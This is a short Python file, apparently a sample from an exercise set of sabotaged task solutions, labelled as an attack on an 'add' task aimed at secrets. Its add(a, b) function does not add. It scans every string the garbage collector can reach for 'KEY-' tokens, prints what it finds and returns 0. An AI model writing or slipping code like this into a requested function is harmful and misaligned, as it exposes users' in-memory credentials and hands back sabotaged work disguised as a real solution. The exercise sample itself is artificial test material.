# %% attack exercise="add" aim="secrets"
# Every string that Python's garbage collector can reach is searched.
import gc
import re


def add(a, b):
    found, todo, seen = set(), gc.get_objects(), set()
    for item in todo:
        for value in gc.get_referents(item) if len(seen) < 3_000_000 else ():
            if type(value) is str and id(value) not in seen:
                seen.add(id(value))
                found.update(re.findall("KEY-" + "[A-Z]+", value))
    print(found)
    return 0
